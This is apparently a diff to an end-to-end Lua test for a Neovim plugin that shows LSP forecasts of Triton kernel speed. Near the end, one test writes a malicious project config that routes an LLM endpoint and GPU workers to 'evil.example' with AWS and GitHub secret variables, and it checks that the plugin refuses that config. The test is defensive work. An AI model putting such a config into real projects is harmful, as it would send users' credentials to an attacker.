@@ -75,7 +75,7 @@ local function hints(bufnr)
   for _, item in ipairs(vim.lsp.inlay_hint.get({ bufnr = bufnr })) do
     local client = vim.lsp.get_client_by_id(item.client_id)
     if client and client.name == "kforecast" then
-      out[#out + 1] = { line = item.inlay_hint.position.line, text = label_text(item.inlay_hint) }
+      out[#out + 1] = { line = item.inlay_hint.position.line, col = item.inlay_hint.position.character, text = label_text(item.inlay_hint) }
     end
   end
   return out
@@ -125,6 +125,8 @@ end
 local kf = require("kforecast")
 kf.setup({
   server_path = server,
+  -- Off by default; on here to check that it says what the hint says, while typing too.
+  codelens = true,
   cmd_env = { KFORECAST_CACHE_DIR = cache, KFORECAST_LOG = os.getenv("KFORECAST_LOG") or "info" },
   -- Every server setting at its default (the server must take them all without complaint).
   settings = {
@@ -190,6 +192,10 @@ local function case(spec)
   )
   check(hint.text:match("^≈%d+%.%d+× ") ~= nil, "hint %q does not look like `≈N.N× faster · NN%%`", hint.text)
   check(hint.text:match("· %d+%%") ~= nil, "hint %q has no confidence", hint.text)
+  -- Placed after the body's opener (`{` or `:`), at the end of its line: never inside code.
+  local hint_line = vim.api.nvim_buf_get_lines(bufnr, hint.line, hint.line + 1, false)[1]
+  check(hint.col == #vim.trim(hint_line) + #hint_line:match("^%s*") and hint_line:match("[{:]%s*$") ~= nil,
+    "hint at column %d of %q: expected at the end of the line that opens the body", hint.col, hint_line)
 
   -- Code lenses above the kernel.
   local uri = vim.uri_from_bufnr(bufnr)
@@ -204,6 +210,20 @@ local function case(spec)
   end
   check(has_lens, "no code lens titled `kforecast: …`; got %s", vim.inspect(lens_titles))
   log("  code lenses: %s", table.concat(lens_titles, " | "))
+  -- The lens says the hint's words, and is refreshed while typing (TextChangedI), not only
+  -- on leaving insert mode.
+  local want = "kforecast: " .. hint.text .. " vs HEAD"
+  check(vim.tbl_contains(lens_titles, want), "no lens %q: %s", want, vim.inspect(lens_titles))
+  check(#vim.api.nvim_get_autocmds({ group = "kforecast_codelens_" .. bufnr, event = "TextChangedI" }) > 0,
+    "the lens is not refreshed while typing")
+  vim.api.nvim_exec_autocmds("TextChangedI", { buffer = bufnr })
+  wait_for("the displayed lens to agree with the hint", function()
+    for _, l in ipairs(vim.lsp.codelens.get(bufnr)) do
+      if l.command and l.command.title == want then
+        return true
+      end
+    end
+  end)
 
   -- Hover on the kernel name.
   local col = vim.api.nvim_buf_get_lines(bufnr, name_row, name_row + 1, false)[1]:find(spec.kernel, 1, true) - 1
@@ -213,7 +233,11 @@ local function case(spec)
   }, bufnr)
   local hover_text = hover and hover.contents and (hover.contents.value or vim.inspect(hover.contents)) or ""
   check(hover_text:find(spec.kernel, 1, true) ~= nil, "hover does not name %s: %q", spec.kernel, hover_text)
-  check(hover_text:find("|", 1, true) ~= nil, "hover has no table of bins: %q", hover_text)
+  check(hover_text:find("```text", 1, true) ~= nil and hover_text:find("|", 1, true) == nil,
+    "hover's bins are not a text block (Neovim renders no markdown table): %q", hover_text)
+  check(hover_text:find("likely faster%*%* than HEAD") ~= nil, "hover does not say what the percentage is: %q", hover_text)
+  local block = hover_text:match("```text\n(.-)```") or ""
+  check(block:find("severe slowdown", 1, true) < block:find("extreme speedup", 1, true), "bins not slowest first: %s", block)
 
   -- Code actions at the kernel: exactly the expected list (KFORECAST_E2E_CODE_ACTIONS).
   local titles = {}
@@ -223,9 +247,13 @@ local function case(spec)
       range = { start = { line = name_row, character = col }, ["end"] = { line = name_row, character = col } },
       context = { diagnostics = {} },
     }, bufnr) or {}
+    local kinds = {}
     for _, a in ipairs(actions) do
       titles[#titles + 1] = a.title
+      kinds[a.title:match("^%a+")] = a.kind
     end
+    check(kinds.Verify == "" and kinds.Set == "source" and kinds.Search == "refactor.rewrite",
+      "code action kinds: %s", vim.inspect(kinds))
   end
   local expected = {}
   for _, t in ipairs(EXPECTED_ACTIONS) do
@@ -246,7 +274,12 @@ local function case(spec)
   check(shown.err == nil, ":KforecastShowForecast failed: %s", vim.inspect(shown.err))
   check(shown.kernel == spec.kernel, ":KforecastShowForecast asked for %s, expected %s", tostring(shown.kernel), spec.kernel)
   check(type(shown.result) == "table", ":KforecastShowForecast returned %s", vim.inspect(shown.result))
-  log("  show forecast: %s", vim.json.encode(shown.result):sub(1, 160))
+  local shown_lines = kf.forecast_lines(shown.result)
+  log("  show forecast: %s", table.concat(shown_lines, " / "):sub(1, 200))
+  check(shown_lines[1]:find("**kforecast** · `" .. spec.kernel .. "`: ≈", 1, true) == 1, "show forecast: %q", shown_lines[1])
+  -- Its own figures are rounded (the reasons and the forecaster's id are the server's words).
+  local figures = table.concat(vim.list_slice(shown_lines, 1, 15), "\n")
+  check(not figures:find("%d%.%d%d%d"), "show forecast has unrounded numbers: %s", figures)
 
   -- :KforecastVerify is wired: an answer or the server's error, reported to the user.
   kf.last_results[kf.commands.verify] = nil
@@ -313,15 +346,18 @@ local function case(spec)
 end
 
 local function gating_case()
-  log("== python without triton is left alone, then attached once it mentions triton")
+  log("== python without a kernel is left alone (a comment saying triton is not one), then attached once it holds one")
   local path = workdir .. "/plain.py"
   vim.cmd.edit(vim.fn.fnameescape(path))
   local bufnr = vim.api.nvim_get_current_buf()
   check(vim.bo[bufnr].filetype == "python", "plain.py has filetype %q", vim.bo[bufnr].filetype)
   vim.wait(500)
   check(kf.client(bufnr) == nil, "kforecast attached to a Python file without triton")
-  vim.api.nvim_buf_set_lines(bufnr, 0, 0, false, { "import triton" })
-  wait_for("kforecast to attach once the buffer mentions triton", function()
+  vim.api.nvim_buf_set_lines(bufnr, 0, 0, false, { "import triton  # soon a @triton.jit kernel" })
+  vim.wait(500)
+  check(kf.client(bufnr) == nil, "kforecast attached to a Python file whose only kernel is in a comment")
+  vim.api.nvim_buf_set_lines(bufnr, 1, 1, false, { "@triton.jit", "def k(x_ptr):", "    pass" })
+  wait_for("kforecast to attach once the buffer holds a kernel", function()
     return kf.client(bufnr)
   end)
   vim.cmd("silent! bwipeout!")
@@ -459,6 +495,39 @@ for _, spec in ipairs(cases) do
   run(case, spec)
 end
 run(gating_case)
+run(function()
+  log("== workspace-local config cannot set what sends data or names secrets")
+  local project = vim.fn.tempname()
+  vim.fn.mkdir(project, "p")
+  local exrc = project .. "/.nvim.lua"
+  vim.fn.writefile({
+    "require('kforecast').update_settings({",
+    "  confidenceThreshold = 0.7,",
+    "  llm = { endpoint = 'https://evil.example/v1', apiKeyEnv = 'AWS_SECRET_ACCESS_KEY' },",
+    "  gpuWorkers = { { url = 'https://evil.example:7878', tokenEnv = 'GITHUB_TOKEN' } },",
+    "  autoVerify = true,",
+    "})",
+  }, exrc)
+  local before = #messages
+  dofile(exrc)
+  for _, name in ipairs({ "llm.endpoint", "llm.apiKeyEnv", "gpuWorkers", "autoVerify" }) do
+    local warned = false
+    for i = before + 1, #messages do
+      warned = warned or (messages[i].msg:find("`" .. name .. "` from workspace-local config " .. exrc, 1, true) ~= nil)
+    end
+    check(warned, "no warning naming %s: %s", name, vim.inspect(vim.list_slice(messages, before + 1)))
+  end
+  local s = kf.options.settings
+  check(s.llm.endpoint == "" and s.autoVerify == false and #s.gpuWorkers == 0, "refused settings were taken: %s", vim.inspect(s))
+  check(s.confidenceThreshold == 0.7, "an ordinary setting was refused")
+  -- The user opts in from their own config (this file), and the same project file is taken.
+  kf.options.trust_workspace_settings = true
+  vim.fn.writefile({ "require('kforecast').update_settings({ llm = { apiKeyEnv = 'MY_KEY' } })" }, exrc)
+  dofile(exrc)
+  check(kf.options.settings.llm.apiKeyEnv == "MY_KEY", "trusted workspace setting refused: %s", vim.inspect(kf.options.settings.llm))
+  kf.options.trust_workspace_settings = false
+  kf.update_settings({ llm = { apiKeyEnv = "KFORECAST_LLM_API_KEY" } })
+end)
 run(function()
   log("== the server took the settings")
   -- update_settings merges the llm table key by key.
